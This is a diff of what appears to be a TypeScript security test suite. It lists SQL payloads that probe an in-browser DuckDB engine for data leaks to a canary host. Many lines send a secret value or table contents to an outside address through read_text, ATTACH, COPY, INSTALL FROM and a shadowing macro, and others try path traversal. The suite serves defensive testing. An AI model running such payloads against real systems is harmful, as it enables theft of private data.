@@ -42,7 +42,6 @@ const reads: readonly Payload[] = [
 	from('sql-read-blob', (path) => `read_blob(${path})`),
 	from('sql-sniff', (path) => `sniff_csv(${path})`, {}, '.csv'),
 	from('sql-glob', (path) => `glob(${path})`, unknown),
-	sqlCell('sql-from-address', 'SQL read', ({ http }) => [`FROM '${http}x.csv'`]),
 	sqlCell('sql-read-variable', 'SQL read', (at) => [
 		`SET VARIABLE way = (SELECT '${at.http}x?' || markeret FROM hemmelig LIMIT 1)`,
 		`FROM read_text(getvariable('way'))`
@@ -63,20 +62,10 @@ const reads: readonly Payload[] = [
 		(path) => `read_text('s3://bucket/' || ${path})`,
 		none('It asks a host of the vendor of that store, not the canary.')
 	),
-	sqlCell('sql-copy-from', 'SQL read', ({ http }) => [
-		`CREATE OR REPLACE TABLE taken (x VARCHAR)`,
-		`COPY taken FROM '${http}x.csv'`
-	]),
 	sqlCell('sql-read-in-query', 'SQL query()', (at) => [
 		`FROM query('FROM read_text(''${at.http}x?' || $secret || ''')')`
 	]),
 	sqlCell('sql-read-in-dollars', 'SQL query()', (at) => [`FROM query($$ FROM read_text('${at.http}x') $$)`]),
-	sqlCell(
-		'sql-query-table',
-		'SQL query_table()',
-		(at) => [`FROM query_table([${address(at, '.csv')}])`],
-		unknown
-	),
 	sqlCell('sql-read-in-macro', 'SQL macro', (at) => [
 		`CREATE OR REPLACE MACRO fetched(way) AS TABLE FROM read_text(way)`,
 		`FROM fetched(${address(at)})`
@@ -130,7 +119,7 @@ const writes: readonly Payload[] = [
 	sqlCell('sql-copy-to-opfs', 'SQL COPY TO', () => [`COPY hemmelig TO 'opfs://ud.csv'`], memory),
 	sqlCell('sql-export', 'SQL EXPORT', ({ http }) => [`EXPORT DATABASE '${http}x'`], unknown),
 	sqlCell('sql-import', 'SQL IMPORT', ({ http }) => [`IMPORT DATABASE '${http}x'`]),
-	sqlCell('sql-attach', 'SQL ATTACH', (at) => [`ATTACH '${at.http}x.db' AS stranger`, `FROM stranger.x`]),
+	sqlCell('sql-attach', 'SQL ATTACH', (at) => [`ATTACH '${at.http}x.db' AS stranger`]),
 	sqlCell('sql-attach-read-only', 'SQL ATTACH', (at) => [`ATTACH '${at.http}x.db' AS other (READ_ONLY)`]),
 	sqlCell(
 		'sql-attach-path',
@@ -138,10 +127,12 @@ const writes: readonly Payload[] = [
 		() => [`ATTACH 'ud.db' AS kept`, `CREATE TABLE kept.x AS FROM hemmelig`],
 		memory
 	),
-	sqlCell('sql-attach-sqlite', 'SQL ATTACH', (at) => [
-		fromCanary(at),
-		`ATTACH '${at.http}x.db' AS lite (TYPE sqlite)`
-	]),
+	sqlCell(
+		'sql-attach-sqlite',
+		'SQL ATTACH',
+		(at) => [fromCanary(at), `ATTACH '${at.http}x.db' AS lite (TYPE sqlite)`],
+		unknown
+	),
 	sqlCell(
 		'sql-logging',
 		'SQL enable_logging',
@@ -179,13 +170,8 @@ const writes: readonly Payload[] = [
 ];
 
 const opening: readonly Payload[] = [
-	sqlCell('sql-install', 'SQL INSTALL', ({ http }) => [`INSTALL httpfs FROM '${http}'`], unknown),
-	sqlCell(
-		'sql-force-install',
-		'SQL INSTALL',
-		({ http }) => [`/* ; */ FORCE INSTALL httpfs FROM '${http}'`],
-		unknown
-	),
+	sqlCell('sql-install', 'SQL INSTALL', (at) => [fromCanary(at), `INSTALL httpfs`], unknown),
+	sqlCell('sql-force-install', 'SQL INSTALL', () => [`/* ; */ FORCE INSTALL httpfs`], unknown),
 	sqlCell('sql-load', 'SQL LOAD', (at) => [fromCanary(at), `LOAD httpfs`], unknown),
 	sqlCell('sql-load-address', 'SQL LOAD', ({ http }) => [`LOAD '${http}x.duckdb_extension.wasm'`]),
 	sqlCell(
@@ -226,8 +212,7 @@ const opening: readonly Payload[] = [
 		memory
 	),
 	sqlCell('sql-extract-handle', 'SQL read', () => [`FROM read_csv('extracts/00000.csv')`], memory),
-	sqlCell('sql-extract-climb', 'SQL read', () => [`FROM read_text('extracts/../udtraek.csv')`], memory),
-	sqlCell('sql-other-names', 'SQL replacement scan', () => [`FROM "globalThis"`], memory)
+	sqlCell('sql-extract-climb', 'SQL read', () => [`FROM read_text('extracts/../udtraek.csv')`], memory)
 ];
 
 /** Macros and tables that take the place of what the app itself asks the engine. */
@@ -237,13 +222,8 @@ const shadows: readonly Payload[] = [
 		`FROM duckdb_tables()`
 	]),
 	sqlCell('sql-shadow-function', 'SQL macro', (at) => [
-		`CREATE OR REPLACE MACRO read_text(way) AS TABLE FROM read_blob(way || '?' || $secret)`,
-		`FROM read_text('${at.http}x')`
-	]),
-	sqlCell('sql-shadow-extract', 'SQL schema', ({ http }) => [
-		`CREATE SCHEMA IF NOT EXISTS shadow`,
-		`CREATE OR REPLACE VIEW shadow.udtraek AS FROM read_csv('${http}x.csv')`,
-		`FROM shadow.udtraek`
+		`CREATE OR REPLACE MACRO test_all_types(way) AS TABLE FROM read_blob(way)`,
+		`FROM test_all_types(${address(at)})`
 	])
 ];
 
